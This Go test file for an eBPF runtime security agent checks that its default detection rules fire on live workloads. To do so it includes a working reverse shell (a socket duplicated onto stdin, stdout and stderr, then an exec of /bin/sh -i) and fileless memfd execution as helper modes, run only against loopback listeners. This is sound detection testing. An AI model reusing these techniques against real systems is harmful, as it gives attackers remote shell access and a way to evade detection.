package rules

// Real-process tests of the default pack: a real sensor (bpftest.PinDir)
// on a child cgroup (bpftest.NewCgroup), workloads started inside it, its
// events fed to an engine with the default rules. Every rule has a
// positive and a negative case here.

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/palisade-sec/palisade/agent/hunt"
	"github.com/palisade-sec/palisade/agent/sensor"
	"github.com/palisade-sec/palisade/internal/bpftest"
	palisadev1 "github.com/palisade-sec/palisade/proto/palisade/v1"
)

// The test binary doubles as a workload: PALISADE_RULES_HELPER selects a mode.
func TestMain(m *testing.M) {
	if mode := os.Getenv("PALISADE_RULES_HELPER"); mode != "" {
		os.Exit(runHelper(mode, os.Args[1:]))
	}
	os.Exit(m.Run())
}

func runHelper(mode string, args []string) int {
	switch mode {
	case "connect": // connect ADDR: dial TCP, print ok or the error
		c, err := net.Dial("tcp", args[0])
		if err != nil {
			fmt.Println("error:", err)
			return 3
		}
		c.Close()
		fmt.Println("ok")
		return 0
	case "revshell": // revshell ADDR: connect, put the socket on 0, 1, 2, exec /bin/sh
		c, err := net.Dial("tcp", args[0])
		if err != nil {
			fmt.Println("error:", err)
			return 3
		}
		f, err := c.(*net.TCPConn).File()
		if err != nil {
			return 4
		}
		for _, fd := range []int{0, 1, 2} {
			if err := unix.Dup2(int(f.Fd()), fd); err != nil {
				return 5
			}
		}
		_ = syscall.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())
		return 6
	case "memfd": // memfd FILE: copy FILE into a memfd and exec it through /proc/self/fd
		b, err := os.ReadFile(args[0])
		if err != nil {
			return 2
		}
		fd, err := unix.MemfdCreate("payload", 0)
		if err != nil {
			return 3
		}
		if _, err := unix.Write(fd, b); err != nil {
			return 4
		}
		p := fmt.Sprintf("/proc/self/fd/%d", fd)
		_ = syscall.Exec(p, append([]string{"payload"}, args[1:]...), os.Environ())
		return 5
	}
	return 1
}

// live is one test's sensor, engine and cgroup.
type live struct {
	t      *testing.T
	cg     *bpftest.Cgroup
	s      *sensor.Sensor
	e      *Engine
	dir    string
	mu     sync.Mutex
	alerts []*palisadev1.Alert
	events []*palisadev1.Event
	notify chan struct{}
	blocks []netip.Prefix
}

func newLive(t *testing.T, agent AgentInfo) *live {
	t.Helper()
	bpftest.RequireBPF(t)
	cg := bpftest.NewCgroup(t)
	pinDir := bpftest.PinDir(t)
	t.Cleanup(func() {
		if err := sensor.Cleanup(pinDir); err != nil {
			t.Errorf("cleanup pins: %v", err)
		}
	})
	s, err := sensor.Open(context.Background(), sensor.Config{CgroupPath: cg.Path, PinDir: pinDir, Logger: quietLogger()})
	if err != nil {
		t.Fatalf("open sensor: %v", err)
	}
	t.Cleanup(func() { s.Close() })
	l := &live{t: t, cg: cg, s: s, dir: t.TempDir(), notify: make(chan struct{})}
	e, err := NewEngine(Config{
		HostID: "test-host", Logger: quietLogger(), Scope: cg.Path, CgroupRoot: bpftest.CgroupRoot,
		BootTime: s.Cache().BootTimeValue(), Agent: agent,
		Block: func(p netip.Prefix) error {
			l.mu.Lock()
			defer l.mu.Unlock()
			l.blocks = append(l.blocks, p)
			return nil
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	rs, err := DefaultRules(palisadev1.Mode_MODE_ENFORCE)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Apply(rs); err != nil {
		t.Fatal(err)
	}
	l.e = e
	go func() {
		for ev := range s.Events() {
			as := e.Evaluate(ev)
			l.mu.Lock()
			l.events = append(l.events, ev)
			l.alerts = append(l.alerts, as...)
			close(l.notify)
			l.notify = make(chan struct{})
			l.mu.Unlock()
		}
	}()
	return l
}

func (l *live) apply(r *sensor.Resolved) {
	l.t.Helper()
	if err := l.s.Apply(r); err != nil {
		l.t.Fatalf("apply: %v", err)
	}
}

const waitTimeout = 20 * time.Second

// waitAlert waits for an alert of rule whose event satisfies pred.
func (l *live) waitAlert(rule string, pred func(*palisadev1.Alert) bool) *palisadev1.Alert {
	l.t.Helper()
	deadline := time.After(waitTimeout)
	for {
		l.mu.Lock()
		for _, a := range l.alerts {
			if a.GetRule() == rule && (pred == nil || pred(a)) {
				l.mu.Unlock()
				return a
			}
		}
		ch := l.notify
		l.mu.Unlock()
		select {
		case <-ch:
		case <-deadline:
			l.t.Fatalf("no %s alert", rule)
		}
	}
}

// waitEvent waits for an event (the negative cases wait for the event
// that would have matched, then check no alert came of it: Evaluate runs
// before the event is recorded).
func (l *live) waitEvent(what string, pred func(*palisadev1.Event) bool) *palisadev1.Event {
	l.t.Helper()
	deadline := time.After(waitTimeout)
	for {
		l.mu.Lock()
		for _, ev := range l.events {
			if pred(ev) {
				l.mu.Unlock()
				return ev
			}
		}
		ch := l.notify
		l.mu.Unlock()
		select {
		case <-ch:
		case <-deadline:
			l.t.Fatalf("no %s event", what)
		}
	}
}

// noAlert fails if any alert of rule concerns ev's process.
func (l *live) noAlert(rule string, ev *palisadev1.Event) {
	l.t.Helper()
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, a := range l.alerts {
		if a.GetRule() == rule && a.GetEvent().GetProcess().GetPid() == ev.GetProcess().GetPid() {
			l.t.Fatalf("unexpected %s alert: %v", rule, a)
		}
	}
}

func (l *live) run(env []string, name string, args ...string) (string, syscall.Signal) {
	l.t.Helper()
	cmd := l.cg.Command(name, args...)
	cmd.Env = append(os.Environ(), env...)
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		if ws, ok := ee.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			return string(out), ws.Signal()
		}
	}
	return string(out), 0
}

// start starts a long-running workload and returns it; the test waits it.
func (l *live) start(env []string, name string, args ...string) *exec.Cmd {
	l.t.Helper()
	cmd := l.cg.Command(name, args...)
	cmd.Env = append(os.Environ(), env...)
	if err := cmd.Start(); err != nil {
		l.t.Fatal(err)
	}
	l.t.Cleanup(func() {
		_ = cmd.Process.Kill() // by pid: our own child
		_ = cmd.Wait()
	})
	return cmd
}

// waitKilled waits for cmd and reports whether SIGKILL ended it.
func waitKilled(t *testing.T, cmd *exec.Cmd) bool {
	t.Helper()
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			if ws, ok := ee.Sys().(syscall.WaitStatus); ok && ws.Signaled() && ws.Signal() == syscall.SIGKILL {
				return true
			}
		}
		return false
	case <-time.After(waitTimeout):
		t.Fatalf("process %d was not killed", cmd.Process.Pid)
		return false
	}
}

func self(t *testing.T) string {
	t.Helper()
	p, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func execOf(path string) func(*palisadev1.Event) bool {
	return func(ev *palisadev1.Event) bool {
		return ev.GetExec() != nil && ev.GetProcess().GetExePath() == path
	}
}

func alertExe(path string) func(*palisadev1.Alert) bool {
	return func(a *palisadev1.Alert) bool { return a.GetEvent().GetProcess().GetExePath() == path }
}

func TestLive_CredentialFileUnallowedReader(t *testing.T) {
	l := newLive(t, AgentInfo{})
	secret := filepath.Join(l.dir, "credentials")
	if err := os.WriteFile(secret, []byte("AKIASECRET\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cat := bpftest.LookPath(t, "cat")
	reader := bpftest.CopyExe(t, cat, filepath.Join(l.dir, "reader-cat"))
	l.apply(&sensor.Resolved{Files: []sensor.FileRule{{ID: fileID(t, secret), Path: secret, Rule: "protected_files[0]",
		Readers: []sensor.FileID{fileID(t, reader)}, Mode: palisadev1.Mode_MODE_ENFORCE}}})

	// positive: cat, started by sh, is killed by the kernel; the alert adds ancestry
	if _, sig := l.run(nil, "/bin/sh", "-c", cat+" "+secret+"; true"); sig != 0 {
		t.Fatalf("sh signal %v", sig)
	}
	a := l.waitAlert("credential-file-unallowed-reader", alertExe(cat))
	if a.GetSeverity() != "high" || a.GetEvent().GetFileOpen().GetPath() != secret || !strings.HasPrefix(a.GetLabels()["ancestry"], "dash(") && !strings.HasPrefix(a.GetLabels()["ancestry"], "sh(") {
		// The parent is the shell: named by its resolved image (dash) when
		// its own exec event was processed first, else by its path (sh).
		t.Errorf("alert %v", a)
	}
	// negative: the allowed reader
	if out, sig := l.run(nil, reader, secret); sig != 0 || out != "AKIASECRET\n" {
		t.Fatalf("reader: %q %v", out, sig)
	}
	ev := l.waitEvent("allowed read", func(ev *palisadev1.Event) bool {
		return ev.GetFileOpen() != nil && ev.GetProcess().GetExePath() == reader
	})
	l.noAlert("credential-file-unallowed-reader", ev)
}

func TestLive_MetadataCredentialFetch(t *testing.T) {
	l := newLive(t, AgentInfo{})
	md := bpftest.Listen(t, "127.0.0.77:0")
	client := bpftest.CopyExe(t, self(t), filepath.Join(l.dir, "metadata-client"))
	intruder := bpftest.CopyExe(t, self(t), filepath.Join(l.dir, "intruder"))
	l.apply(&sensor.Resolved{Metadata: []netip.AddrPort{md}, MetadataClients: []sensor.FileID{fileID(t, client)},
		MetadataMode: palisadev1.Mode_MODE_ENFORCE})
	helper := []string{"PALISADE_RULES_HELPER=connect"}

	out, _ := l.run(helper, intruder, md.String())
	if !strings.Contains(out, "error") {
		t.Fatalf("intruder connected: %q", out)
	}
	a := l.waitAlert("metadata-credential-fetch", alertExe(intruder))
	if a.GetEvent().GetConnect().GetVerdict() != palisadev1.Verdict_VERDICT_DENIED {
		t.Errorf("alert %v", a)
	}
	if out, _ := l.run(helper, client, md.String()); !strings.Contains(out, "ok") {
		t.Fatalf("client: %q", out)
	}
	ev := l.waitEvent("client connect", func(ev *palisadev1.Event) bool {
		return ev.GetConnect() != nil && ev.GetProcess().GetExePath() == client
	})
	l.noAlert("metadata-credential-fetch", ev)
}

func TestLive_HoneytokenOpened(t *testing.T) {
	l := newLive(t, AgentInfo{})
	token := filepath.Join(l.dir, "config.json.bak")
	plain := filepath.Join(l.dir, "notes.txt")
	for _, p := range []string{token, plain} {
		if err := os.WriteFile(p, []byte("{}\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	l.apply(&sensor.Resolved{Files: []sensor.FileRule{{ID: fileID(t, token), Path: token, Rule: "honeytokens[0]",
		Mode: palisadev1.Mode_MODE_AUDIT, Honeytoken: true}}})
	cat := bpftest.LookPath(t, "cat")
	l.run(nil, cat, token)
	a := l.waitAlert("honeytoken-opened", nil)
	if a.GetSeverity() != "critical" || a.GetEvent().GetFileOpen().GetPath() != token {
		t.Errorf("alert %v", a)
	}
	// negative: an ordinary file (no event at all), then the same cat binary on it
	marker := bpftest.CopyExe(t, cat, filepath.Join(l.dir, "cat2"))
	l.run(nil, marker, plain)
	ev := l.waitEvent("cat2 exec", execOf(marker))
	l.noAlert("honeytoken-opened", ev)
}

func TestLive_ReverseShell(t *testing.T) {
	l := newLive(t, AgentInfo{})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Skip(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			defer c.Close() // keep it open: the shell waits for commands
		}
	}()
	cmd := l.start([]string{"PALISADE_RULES_HELPER=revshell"}, self(t), ln.Addr().String())
	a := l.waitAlert("reverse-shell", func(a *palisadev1.Alert) bool {
		return a.GetEvent().GetProcess().GetPid() == uint32(cmd.Process.Pid)
	})
	if !a.GetResponseTaken() || a.GetResponse() != "kill" || !strings.HasPrefix(a.GetLabels()["stdin"], "socket:") {
		t.Errorf("alert %v", a)
	}
	if !waitKilled(t, cmd) {
		t.Fatal("reverse shell not killed")
	}
	// negative: a shell on a pipe
	sh := l.cg.Command("/bin/sh", "-c", "read x")
	stdin, err := sh.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := sh.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { stdin.Close(); _ = sh.Wait() })
	ev := l.waitEvent("plain sh", func(ev *palisadev1.Event) bool {
		return ev.GetExec() != nil && ev.GetProcess().GetPid() == uint32(sh.Process.Pid)
	})
	l.noAlert("reverse-shell", ev)
}

func TestLive_ExecFromWritableLocation(t *testing.T) {
	l := newLive(t, AgentInfo{})
	trueBin := bpftest.LookPath(t, "true")
	inTmp := bpftest.CopyExe(t, trueBin, filepath.Join(l.dir, "dropper"))
	if !strings.HasPrefix(inTmp, "/tmp/") {
		t.Skipf("temp dir %s is not under /tmp", inTmp)
	}
	l.run(nil, inTmp)
	l.waitAlert("exec-from-writable-location", alertExe(inTmp))
	// memfd: the image is /memfd:payload, exec'd through /proc/self/fd/N
	l.run([]string{"PALISADE_RULES_HELPER=memfd"}, self(t), trueBin)
	l.waitAlert("exec-from-writable-location", func(a *palisadev1.Alert) bool {
		p := a.GetEvent().GetProcess().GetExePath()
		return strings.HasPrefix(p, "/memfd:") || strings.HasPrefix(a.GetEvent().GetExec().GetFilename(), "/proc/self/fd/")
	})
	// negative: the system binary
	l.run(nil, trueBin)
	ev := l.waitEvent("true exec", execOf(trueBin))
	l.noAlert("exec-from-writable-location", ev)
}

func TestLive_ExecDownloadedBinary(t *testing.T) {
	l := newLive(t, AgentInfo{})
	curl := bpftest.LookPath(t, "curl")
	sleep := bpftest.LookPath(t, "sleep")
	payload := filepath.Join(l.dir, "payload")
	if out, sig := l.run(nil, curl, "-s", "-o", payload, "file://"+sleep); sig != 0 {
		t.Fatalf("curl: %q %v", out, sig)
	}
	if err := os.Chmod(payload, 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := l.start(nil, payload, "30")
	a := l.waitAlert("exec-downloaded-binary", alertExe(payload))
	if a.GetLabels()["downloaded_by"] != "curl" || !a.GetResponseTaken() {
		t.Errorf("alert %v", a)
	}
	if !waitKilled(t, cmd) {
		t.Fatal("downloaded binary not killed")
	}
	// negative: a copy nobody downloaded
	other := bpftest.CopyExe(t, sleep, filepath.Join(l.dir, "copied"))
	l.run(nil, other, "0")
	ev := l.waitEvent("copied exec", execOf(other))
	l.noAlert("exec-downloaded-binary", ev)
}

func TestLive_ConnectIOCAndMiningPort(t *testing.T) {
	l := newLive(t, AgentInfo{})
	ioc := bpftest.Listen(t, "127.0.0.2:0")
	clean := bpftest.Listen(t, "127.0.0.1:0")
	if err := l.e.SetIOCs([]string{"127.0.0.2"}); err != nil {
		t.Fatal(err)
	}
	helper := []string{"PALISADE_RULES_HELPER=connect"}
	conn := bpftest.CopyExe(t, self(t), filepath.Join(l.dir, "ioc-client"))
	l.run(helper, conn, ioc.String())
	a := l.waitAlert("connect-ioc", alertExe(conn))
	if !a.GetResponseTaken() {
		t.Errorf("alert %v", a)
	}
	l.mu.Lock()
	blocked := append([]netip.Prefix(nil), l.blocks...)
	l.mu.Unlock()
	if len(blocked) != 1 || blocked[0].String() != "127.0.0.2/32" {
		t.Errorf("blocked %v", blocked)
	}
	clean2 := bpftest.CopyExe(t, self(t), filepath.Join(l.dir, "clean-client"))
	l.run(helper, clean2, clean.String())
	ev := l.waitEvent("clean connect", func(ev *palisadev1.Event) bool {
		return ev.GetConnect() != nil && ev.GetProcess().GetExePath() == clean2
	})
	l.noAlert("connect-ioc", ev)
	l.noAlert("connect-mining-pool-port", ev)

	// mining-pool port
	pool := bpftest.Listen(t, "127.0.0.3:3333")
	miner := bpftest.CopyExe(t, self(t), filepath.Join(l.dir, "miner"))
	l.run(helper, miner, pool.String())
	l.waitAlert("connect-mining-pool-port", alertExe(miner))
}

func TestLive_LeakedKeyInProcess(t *testing.T) {
	l := newLive(t, AgentInfo{})
	ks, err := hunt.NewKeySet([]hunt.Key{{ID: testKey}})
	if err != nil {
		t.Fatal(err)
	}
	l.e.SetLeakedKeys(ks)
	sleep := bpftest.CopyExe(t, bpftest.LookPath(t, "sleep"), filepath.Join(l.dir, "worker"))
	// environment
	cmd := l.start([]string{"AWS_ACCESS_KEY_ID=" + testKey}, sleep, "30")
	a := l.waitAlert("leaked-key-in-process", alertExe(sleep))
	if a.GetLabels()["leaked_key"] != "AKIA****MPLE in env AWS_ACCESS_KEY_ID" || !a.GetResponseTaken() {
		t.Errorf("alert %v", a)
	}
	if !waitKilled(t, cmd) {
		t.Fatal("process with leaked key not killed")
	}
	// argv
	cmd = l.start(nil, "/bin/sh", "-c", "sleep 30", testKey)
	l.waitAlert("leaked-key-in-process", func(a *palisadev1.Alert) bool {
		return a.GetEvent().GetProcess().GetPid() == uint32(cmd.Process.Pid) && strings.Contains(a.GetLabels()["leaked_key"], "in argv")
	})
	if !waitKilled(t, cmd) {
		t.Fatal("process with leaked key in argv not killed")
	}
	// negative: another key id
	cmd = l.start([]string{"AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLX"}, sleep, "30")
	ev := l.waitEvent("other key exec", func(ev *palisadev1.Event) bool {
		return ev.GetExec() != nil && ev.GetProcess().GetPid() == uint32(cmd.Process.Pid)
	})
	l.noAlert("leaked-key-in-process", ev)
}

func TestLive_AgentTampering(t *testing.T) {
	state := t.TempDir()
	idFile := filepath.Join(state, "identity.json")
	if err := os.WriteFile(idFile, []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	l := newLive(t, AgentInfo{PID: os.Getpid(), Exe: self(t), Paths: []string{state}})
	cat := bpftest.LookPath(t, "cat")
	l.run(nil, cat, idFile)
	a := l.waitAlert("agent-tampering", alertExe(cat))
	if a.GetSeverity() != "critical" {
		t.Errorf("alert %v", a)
	}
	// the agent's files protected in the kernel: an open is a file event
	l.apply(&sensor.Resolved{Files: []sensor.FileRule{{ID: fileID(t, idFile), Path: idFile, Rule: "agent",
		Mode: palisadev1.Mode_MODE_AUDIT}}})
	l.run(nil, "/bin/sh", "-c", "exec "+cat+" < "+idFile)
	l.waitAlert("agent-tampering", func(a *palisadev1.Alert) bool { return a.GetEvent().GetFileOpen() != nil })
	// negative
	other := filepath.Join(l.dir, "other.json")
	_ = os.WriteFile(other, []byte("{}"), 0o600)
	marker := bpftest.CopyExe(t, cat, filepath.Join(l.dir, "cat3"))
	l.run(nil, marker, other)
	ev := l.waitEvent("cat3 exec", execOf(marker))
	l.noAlert("agent-tampering", ev)
}

func TestLive_KillTreeAndPidReuseGuard(t *testing.T) {
	l := newLive(t, AgentInfo{})
	cmd := l.start(nil, "/bin/sh", "-c", "sleep 30 & sleep 30 & wait")
	pid := uint32(cmd.Process.Pid)
	// wait for both children
	deadline := time.Now().Add(waitTimeout)
	for len(children("/proc")[pid]) < 2 {
		if time.Now().After(deadline) {
			t.Fatal("children did not start")
		}
		time.Sleep(5 * time.Millisecond) // poll interval
	}
	kids := children("/proc")[pid]
	st, err := readStat("/proc", pid)
	if err != nil {
		t.Fatal(err)
	}
	start := ticksToTime(l.e.cfg.BootTime, st.startTicks)
	// a wrong start time (as after pid reuse) is refused
	if _, err := l.e.KillProcess(pid, start.Add(-time.Second), true); err == nil || !strings.Contains(err.Error(), "reused") {
		t.Fatalf("kill with wrong start time: %v", err)
	}
	n, err := l.e.KillProcess(pid, start, true)
	if err != nil || n != 3 {
		t.Fatalf("kill tree: n=%d err=%v", n, err)
	}
	if !waitKilled(t, cmd) {
		t.Fatal("root not killed")
	}
	for _, k := range kids {
		waitFor(t, "child exit", func() bool { return unix.Kill(int(k), 0) != nil })
	}
	// outside the scope: the test process's own parent is refused
	if _, err := l.e.KillProcess(uint32(os.Getppid()), time.Time{}, false); err == nil {
		t.Fatal("killed a process outside the scope")
	}
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(waitTimeout)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(5 * time.Millisecond) // poll interval
	}
}

// TestLive_HuntAlerts: a hunt finds a running process holding a leaked
// key; under the enforce-mode leaked-key rule it is killed (start time
// checked), while a process without the key is untouched.
func TestLive_HuntAlerts(t *testing.T) {
	bpftest.RequireBPF(t)
	cg := bpftest.NewCgroup(t)
	e, err := NewEngine(Config{HostID: "h1", Logger: quietLogger(), Scope: cg.Path, CgroupRoot: bpftest.CgroupRoot})
	if err != nil {
		t.Fatal(err)
	}
	rs, _ := DefaultRules(palisadev1.Mode_MODE_ENFORCE)
	if err := e.Apply(rs); err != nil {
		t.Fatal(err)
	}
	sleep := bpftest.LookPath(t, "sleep")
	leaky := cg.Command(sleep, "30")
	leaky.Env = []string{"AWS_ACCESS_KEY_ID=" + testKey}
	clean := cg.Command(sleep, "30")
	for _, c := range []*exec.Cmd{leaky, clean} {
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = c.Process.Kill(); _ = c.Wait() })
	}
	ks, _ := hunt.NewKeySet([]hunt.Key{{ID: testKey}})
	var res *hunt.Result
	waitFor(t, "hunt finding", func() bool {
		res, err = hunt.Hunt(context.Background(), hunt.Config{HostID: "h1", Scope: cg.Path, CgroupRoot: bpftest.CgroupRoot, Logger: quietLogger()}, ks)
		return err == nil && len(res.Processes()) == 1
	})
	as := e.HuntAlerts(res)
	if len(as) != 1 || !as[0].GetResponseTaken() || as[0].GetLabels()["leaked_key"] != "AKIA****MPLE in env AWS_ACCESS_KEY_ID" {
		t.Fatalf("alerts %v", as)
	}
	if !waitKilled(t, leaky) {
		t.Fatal("leaky process not killed")
	}
	if err := clean.Process.Signal(syscall.Signal(0)); err != nil {
		t.Fatalf("clean process gone: %v", err)
	}
}

func fileID(t *testing.T, path string) sensor.FileID {
	dev, ino := bpftest.DevIno(t, path)
	return sensor.FileID{Dev: dev, Ino: ino}
}
